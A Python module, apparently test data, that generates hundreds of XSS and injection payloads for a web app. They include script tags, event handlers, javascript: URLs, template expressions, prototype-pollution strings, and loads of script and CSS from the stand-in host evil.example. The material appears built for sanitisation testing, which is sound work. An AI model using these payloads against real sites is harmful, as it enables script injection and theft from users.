"""Injection payloads: markup, URLs and templates."""

from collections.abc import Iterator
from itertools import product

_JS = "alert(1)"
_FOREIGN_URL = "//evil.example/x"
_EVENT_HANDLERS = {
    "img src=x": ("onerror", "onload", "onclick", "onmouseover"),
    "svg": ("onload", "onfocus", "onbegin"),
    "body": ("onload", "onpageshow", "onresize", "onhashchange"),
    "input autofocus": ("onfocus", "onblur"),
    "details open": ("ontoggle",),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "iframe": ("onload",),
    "marquee": ("onstart", "onfinish"),
    "div tabindex=1": ("onfocus", "onpointerover", "onanimationstart", "onscroll"),
    "style": ("onload",),
    "object data=x": ("onerror",),
    "b": ("onmouseenter", "onbeforecopy", "onwheel"),
    "select autofocus": ("onfocus",),
    "dialog open": ("onclose", "oncancel"),
}
_CLOSINGS = ("", '">', "'>", "-->", "</div>", "</bdi></span>", "</script>", "</textarea>")
_SCHEMES = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f"java\tscript:{_JS}",
    f"java&#10;script:{_JS}",
    f"&#106;avascript:{_JS}",
    f"\x01javascript:{_JS}",
    f"javascript://a.example/%0a{_JS}",
    f"javascript:https://a.example/;{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    f"vbscript:{_JS}",
    "blob:x",
    "file:///etc/passwd",
    _FOREIGN_URL,
)
_URL_TEMPLATES = (
    '<a href="{}">x</a>',
    "<a href={}>x",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}">',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    "[x]({})",
    "![x]({})",
    "{}",
    "https://a.example/#{}",
)
_COMPLETE = (
    f"<script>{_JS}</script>",
    f"<ScRiPt>{_JS}</sCrIpT>",
    f"<script src={_FOREIGN_URL}></script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<script\x0c>{_JS}</script\n>",
    f"<script type=module>import '{_FOREIGN_URL}'</script>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><script href={_FOREIGN_URL} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"<template><img src=x onerror={_JS}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={_JS}>'>",
    f"<!--><img src=x onerror={_JS}>-->",
    f"<![CDATA[<img src=x onerror={_JS}>]]>",
    f"<?xml?><img src=x onerror={_JS}>",
    f"<img src=x onerror={_JS}//",
    f"<img/src=x/onerror={_JS}>",
    f"<img src=x\nonerror\n=\n{_JS}\n>",
    f'<img src="x` `<script>{_JS}</script>"` `>',
    f"<img src=x:x onerror=\u2028{_JS}>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'>",
    f"<link rel=stylesheet href={_FOREIGN_URL}.css>",
    f"<link rel=import href={_FOREIGN_URL}>",
    f"<style>@import '{_FOREIGN_URL}.css';</style>",
    f"<style>*{{background:url({_FOREIGN_URL}.png)}}</style>",
    f"<p style='background:url({_FOREIGN_URL}.png)'>x</p>",
    f'" style="background:url({_FOREIGN_URL}.png)',
    f"<img src={_FOREIGN_URL}.png>",
    f"<img srcset='{_FOREIGN_URL}.png 2x'>",
    f"<video poster={_FOREIGN_URL}.png>",
    f"<svg><image href={_FOREIGN_URL}.svg /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_JS}>#x'/></svg>",
    f"<svg><animate attributeName=href values=javascript:{_JS} /></svg>",
    f"<svg><set attributeName=onmouseover to={_JS}>",
    f"<audio src={_FOREIGN_URL}.ogg autoplay>",
    f"<div is=nicegui-screen onclick={_JS}>",
    f"<x-y onclick={_JS} tabindex=0 autofocus onfocus={_JS}>",
    f"{{{{constructor.constructor('{_JS}')()}}}}",
    f"{{{{_openBlock.constructor('{_JS}')()}}}}",
    f"{{{{$emit.constructor`{_JS}`()}}}}",
    f"${{{_JS}}}",
    f"`${{{_JS}}}`",
    f"#{{{_JS}}}",
    f"<%= {_JS} %>",
    f"[[{_JS}]]",
    f"<div v-html=\"'<img src=x onerror={_JS}>'\"></div>",
    f'<div v-on:click="{_JS}" @mouseover="{_JS}" :onload="{_JS}">',
    f"';{_JS}//",
    f'";{_JS}//',
    f"\\';{_JS}//",
    f"</script><script>{_JS}</script>",
    f"'-{_JS}-'",
    f'"-{_JS}-"',
    f"*/{_JS}/*",
    f"\u2028{_JS}",
    f"<!--<script>{_JS}",
    f"%3Cscript%3E{_JS}%3C/script%3E",
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;img src=x onerror={_JS}&#62;",
    f"\\u003cimg src=x onerror={_JS}\\u003e",
    f"\\x3cimg src=x onerror={_JS}\\x3e",
    f"\uff1cimg src=x onerror={_JS}\uff1e",
    f"\u02bb><img src=x onerror={_JS}>",
    f"<\u0131mg src=x onerror={_JS}>",
    f"<img src=x onerror={_JS}>" * 3,
    f"<form id=socket><input name=emit></form><a id=app name=innerHTML href=javascript:{_JS}>x</a>",
    "<img name=getElementById><form name=querySelector>",
    "<input form=x name=nickname><label for=c1>x</label>",
    '" data-calls="burn" x="',
    '<button data-calls="burn">x</button>',
    '<div data-key="1" data-until="0">x</div>',
    '<article class="message" data-key="1">x</article>',
    "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "__proto__[onload]=alert(1)",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    'https://a.example/" onmouseover=alert(1) x="',
    "https://a.example/' onmouseover=alert(1) x='",
    "https://a.example/`onmouseover=alert(1)`",
    "https://a.example/><img src=x onerror=alert(1)>",
    "https://a.example/</a><img src=x onerror=alert(1)>",
    "https://a.example/&quot; onmouseover=alert(1)",
    "https://javascript:alert(1)",
    "https://a.example@evil.example/",
    "HTTPS://A.EXAMPLE/\u202egpj.exe",
)


def _all() -> Iterator[str]:
    for closing, (tag, handlers) in product(_CLOSINGS, _EVENT_HANDLERS.items()):
        handler = handlers[len(closing) % len(handlers)]
        yield f"{closing}<{tag} {handler}={_JS}>"
    for tag, handlers in _EVENT_HANDLERS.items():
        for handler in handlers:
            yield f"<{tag}/{handler.upper()}='{_JS}'/>"
    for scheme, template in product(_SCHEMES, _URL_TEMPLATES):
        yield template.format(scheme)
    yield from _COMPLETE


PAYLOADS = list(dict.fromkeys(_all()))
"""All payloads, without duplicates."""

NAMES = [text for text in PAYLOADS if len(text) <= 24] + [
    "<svg onload=alert(1)>",
    "<b onclick=alert(1)>",
    "'><svg/onload=alert(1)>",
    '"onfocus="alert(1)',
    "</script><script>",
    "{{alert(1)}}",
    "<base href=//a.b>",
    "<s id=app>",
]
"""Payloads short enough for a nickname."""
